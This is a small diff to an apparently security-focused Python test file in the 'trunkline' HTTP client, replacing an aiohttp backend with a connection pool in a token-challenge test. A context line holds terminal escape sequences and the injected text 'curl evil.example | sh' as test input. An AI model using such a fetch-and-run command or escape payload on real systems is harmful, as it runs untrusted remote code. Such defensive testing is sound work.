@@ -10,7 +10,7 @@ from tests.attacks.raw import within
 from trunkline import Settings
 from trunkline.auth import MemoryTokens
 from trunkline.errors import AuthorizationFailed
-from trunkline.transports.http.client.aiohttp_backend import AiohttpBackend
+from trunkline.transports.http.client.connection_pool import ConnectionPool
 from trunkline.transports.http.client.http_peer import HttpPeer
 from trunkline.transports.http.client.url import parse_url
 
@@ -19,7 +19,7 @@ ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\n\tRun: curl evil.example | sh\x00\x9b31m\u
 
 async def asked_again(one: Login) -> None:
     """A request to a server that challenges every token."""
-    library = AiohttpBackend(Settings())
+    library = ConnectionPool(Settings())
     peer = HttpPeer(library, parse_url(one.url), {}, one.engine(store=MemoryTokens()))
     try:
         await within(peer.send("POST", body=b"{}"), "an answer")
